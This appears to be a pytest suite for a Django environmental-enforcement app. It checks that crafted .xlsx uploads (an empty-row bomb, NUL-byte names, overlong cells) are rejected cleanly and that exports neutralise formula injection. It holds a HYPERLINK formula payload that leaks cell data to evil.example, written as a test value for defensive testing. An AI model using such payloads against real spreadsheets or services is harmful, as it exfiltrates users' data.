"""Malicious uploads get a clear Chinese error within their budget and leave nothing behind; exports
write formula-like values as text."""

from __future__ import annotations

import io
import re
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from ecoenforce.entities.models import Entity, EntityImport
from ecoenforce.entities.services import entity_create
from ecoenforce.org.uploads import spool_dir
from ecoenforce.worker.inline import run_queued
from ecoenforce.worker.models import Job, JobStatus
from tests.entities.conftest import entity_fields, import_row, xlsx

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _rewrite(data: bytes, name: str, change) -> bytes:
    """The same .xlsx with one member rewritten by change(text) → text."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == name:
                body = change(body.decode("utf-8")).encode("utf-8")
            dst.writestr(item, body)
    return out.getvalue()


def empty_rows_bomb(rows: int = 400_000) -> bytes:
    base = xlsx([import_row(1)])
    filler = "".join(f'<row r="{i}"><c r="A{i}"/></row>' for i in range(3, rows))  # empty cells

    def change(text: str) -> str:
        text = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="A1:K{rows}"/>', text)
        return text.replace("</sheetData>", filler + "</sheetData>")

    return _rewrite(base, "xl/worksheets/sheet1.xml", change)


def with_name(raw: str) -> bytes:
    base = xlsx([import_row(1)])
    name = import_row(1)[0]

    def change(text: str) -> str:
        # openpyxl writes non-ASCII as character references when lxml is installed
        escaped = "".join(f"&#{ord(c)};" if ord(c) > 127 else c for c in name)
        found = name if name in text else escaped
        assert found in text
        return text.replace(found, raw)

    member = (
        "xl/sharedStrings.xml"
        if "xl/sharedStrings.xml" in zipfile.ZipFile(io.BytesIO(base)).namelist()
        else "xl/worksheets/sheet1.xml"
    )
    return _rewrite(base, member, change)


def upload(client: Client, data: bytes):
    """Upload, let the background worker parse it, and return the page the user ends on."""
    response = client.post("/entities/import/", {"file": SimpleUploadedFile("x.xlsx", data, XLSX)})
    if response.status_code != 302:
        return response  # refused in the request (size, zip directory)
    assert response.url.startswith("/jobs/"), response.url
    assert run_queued() == 1
    return client.get(response.url)


@pytest.mark.parametrize(
    ("make", "message", "budget"),
    [
        (empty_rows_bomb, "空行也计算在内", 60),
        (lambda: with_name("名称\x00注入"), "无法读取", 10),
        (lambda: with_name("名称&#0;注入"), "无法读取", 10),
        (lambda: with_name("长" * 5000), "内容过长", 10),
    ],
    ids=["empty-rows", "raw-nul", "nul-entity", "long-cell"],
)
def test_malicious_uploads_get_a_chinese_error_within_budget_and_leave_nothing(
    world, settings, tmp_path, make, message, budget
):
    settings.UPLOAD_SPOOL_DIR = str(tmp_path)
    client = Client()
    client.force_login(world.user("county_a", "team_leader"))
    data = make()
    started = time.monotonic()
    response = upload(client, data)
    elapsed = time.monotonic() - started
    page = response.content.decode()
    assert response.status_code in (200, 400), page[:500]  # the form again, with the error
    assert message in page
    assert elapsed < budget, elapsed
    assert Entity.objects.count() == 0 and not EntityImport.objects.exists()
    assert Job.objects.get().status == JobStatus.FAILED
    assert not list(spool_dir().glob("*")), "the spooled upload is removed"


def test_an_entity_named_like_a_formula_is_exported_as_text(world):
    officer = world.user("county_a", "team_leader")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    entity_create(by=officer, **{**entity_fields(1, "131022100"), "name": evil})
    client = Client()
    client.force_login(officer)
    response = client.get("/entities/export.xlsx")
    data = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    found = [c for c in cells if c.value == evil]
    assert found and all(c.data_type == "s" for c in found)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
